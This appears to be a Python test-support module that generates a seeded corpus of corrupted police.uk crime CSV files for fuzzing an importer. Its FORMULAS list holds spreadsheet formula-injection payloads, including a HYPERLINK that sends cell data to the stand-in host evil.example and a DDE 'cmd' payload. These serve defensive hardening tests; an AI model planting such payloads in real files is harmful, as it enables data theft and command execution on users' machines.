"""A seeded corpus of mutated police.uk files, made from the bundled real street files (issue
20): each file is 10 to 60 real records of one month with one to three mutations, at the byte
level (a NUL, a random byte, a Windows-1252 byte, a control character, a byte cut out, a
stray quote, the file cut short) or the field level (an over-long field, formula text, a
bad month or coordinates, a blanked required field, a 100,000-character field, line breaks
of another kind, a byte-order mark, a broken header). The same seed gives the same files.
Used by tests/test_fuzz_import.py and bench/bench_hardening.py."""

from __future__ import annotations

import csv
import io
import random
from collections.abc import Callable
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
POLICE = ROOT / "data" / "sample" / "police"
SEED = 20
FILES = 300

LONG_FIELDS = {"Crime ID": 101, "LSOA code": 13, "Crime type": 201, "LSOA name": 101,
               "Falls within": 201}
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "=cmd|' /C calc'!A0",
            "+1+1", "-2+3", "@SUM(1,1)"]


def _months() -> list[Path]:
    return sorted(POLICE.glob("*/*-street.csv"))


def _read(path: Path) -> tuple[list[str], list[list[str]]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        reader = csv.reader(handle)
        header = next(reader)
        return header, list(reader)


def _write(header: list[str], rows: list[list[str]], ending: str = "\r\n") -> bytes:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator=ending)
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue().encode("utf-8")


# field-level mutations: (header, rows, rng) -> None, changing rows in place

def _over_long(header, rows, rng) -> None:
    column = rng.choice(list(LONG_FIELDS))
    row = rng.choice(rows)
    row[header.index(column)] = "X" * LONG_FIELDS[column]


def _formula(header, rows, rng) -> None:
    row = rng.choice(rows)
    row[header.index(rng.choice(["Crime type", "Location", "Context", "LSOA name"]))] = \
        rng.choice(FORMULAS)


def _bad_month(header, rows, rng) -> None:
    rng.choice(rows)[header.index("Month")] = rng.choice(["2024-13", "24-01", "", "January"])


def _bad_coordinates(header, rows, rng) -> None:
    row = rng.choice(rows)
    row[header.index(rng.choice(["Longitude", "Latitude"]))] = rng.choice(
        ["", "north", "999", "-0.5.1", "nan", "inf"])


def _blank_required(header, rows, rng) -> None:
    rng.choice(rows)[header.index(rng.choice(["Crime type", "LSOA code", "Falls within"]))] = ""


def _huge_field(header, rows, rng) -> None:
    rng.choice(rows)[header.index("Context")] = "context " * 12_500  # 100,000 characters


def _accents(header, rows, rng) -> None:
    rng.choice(rows)[header.index("Location")] = "On or near Château Crescent – Ørsted Way 🚲"


def _control_in_field(header, rows, rng) -> None:
    row = rng.choice(rows)
    column = header.index(rng.choice(["Crime type", "Location", "LSOA name"]))
    row[column] = row[column][:3] + rng.choice(["\x1b", "\x07", "\x7f", "\x85", "\x0c"]) \
        + row[column][3:]


def _ragged(header, rows, rng) -> None:
    row = rng.choice(rows)
    if rng.random() < 0.5:
        row.append("extra")
    else:
        del row[rng.randrange(len(row))]


FIELD_MUTATIONS: list[Callable] = [_over_long, _formula, _bad_month, _bad_coordinates,
                                   _blank_required, _huge_field, _accents, _control_in_field,
                                   _ragged]


# byte-level mutations: (data, rng) -> data

def _after_header(data: bytes, rng: random.Random) -> int:
    start = data.find(b"\n") + 1
    return rng.randrange(start, len(data)) if start < len(data) else len(data)


def _nul(data, rng) -> bytes:
    at = _after_header(data, rng)
    return data[:at] + b"\x00" + data[at:]


def _random_byte(data, rng) -> bytes:
    at = _after_header(data, rng)
    return data[:at] + bytes([rng.randrange(256)]) + data[at + 1:]


def _windows_1252(data, rng) -> bytes:
    at = _after_header(data, rng)
    return data[:at] + rng.choice([b"\xe9", b"\x96", b"\x80", b"\xa3"]) + data[at:]


def _invalid_utf8(data, rng) -> bytes:
    at = _after_header(data, rng)
    return data[:at] + rng.choice([b"\xed\xa0\x80", b"\xc3", b"\xff\xfe", b"\xf0\x9f"]) + data[at:]


def _control_byte(data, rng) -> bytes:
    at = _after_header(data, rng)
    return data[:at] + bytes([rng.choice([1, 7, 8, 11, 27, 31, 127])]) + data[at:]


def _cut_byte(data, rng) -> bytes:
    at = _after_header(data, rng)
    return data[:at] + data[at + 1:]


def _stray_quote(data, rng) -> bytes:
    at = _after_header(data, rng)
    return data[:at] + b'"' + data[at:]


def _truncate(data, rng) -> bytes:
    return data[:_after_header(data, rng)]


def _duplicate_line(data, rng) -> bytes:
    lines = data.split(b"\r\n")
    if len(lines) > 2:
        i = rng.randrange(1, len(lines) - 1)
        lines.insert(i, lines[i])
    return b"\r\n".join(lines)


def _line_endings(data, rng) -> bytes:
    return data.replace(b"\r\n", rng.choice([b"\n", b"\r", b"\n\r"]))


def _bom(data, rng) -> bytes:
    return b"\xef\xbb\xbf" + data


def _broken_header(data, rng) -> bytes:
    end = data.find(b"\n")
    at = rng.randrange(0, max(end, 1))
    return data[:at] + rng.choice([b"\x00", b",", b"\xe9", b'"', b""]) + data[at + 1:]


def _junk(data, rng) -> bytes:
    at = _after_header(data, rng)
    return data[:at] + bytes(rng.randrange(256) for _ in range(rng.randrange(8, 2000))) \
        + data[at:]


BYTE_MUTATIONS: list[Callable] = [_nul, _random_byte, _windows_1252, _invalid_utf8,
                                  _control_byte, _cut_byte, _stray_quote, _truncate,
                                  _duplicate_line, _line_endings, _bom, _broken_header, _junk]


def corpus(files: int = FILES, seed: int = SEED) -> list[tuple[str, bytes, list[str]]]:
    """`files` mutated police.uk files: (file name, bytes, the mutations applied)."""
    rng = random.Random(seed)
    months = _months()
    cache: dict[Path, tuple[list[str], list[list[str]]]] = {}
    made = []
    for i in range(files):
        path = rng.choice(months)
        if path not in cache:
            cache[path] = _read(path)
        header, records = cache[path]
        start = rng.randrange(max(len(records) - 60, 1))
        rows = [list(r) for r in records[start:start + rng.randrange(10, 61)]]
        applied = []
        for mutation in rng.sample(FIELD_MUTATIONS, rng.randrange(0, 3)):
            mutation(header, rows, rng)
            applied.append(mutation.__name__.lstrip("_"))
        data = _write(list(header), rows)
        for mutation in rng.sample(BYTE_MUTATIONS, rng.randrange(1, 3)):
            data = mutation(data, rng)
            applied.append(mutation.__name__.lstrip("_"))
        made.append((f"{path.parent.name}-fuzz-{i:03d}-street.csv", data, applied))
    return made


def write_corpus(folder: Path, files: int = FILES, seed: int = SEED) -> list[Path]:
    """Write the corpus into `folder`; the paths, in order."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, data, _ in corpus(files, seed):
        paths.append(folder / name)
        paths[-1].write_bytes(data)
    return paths
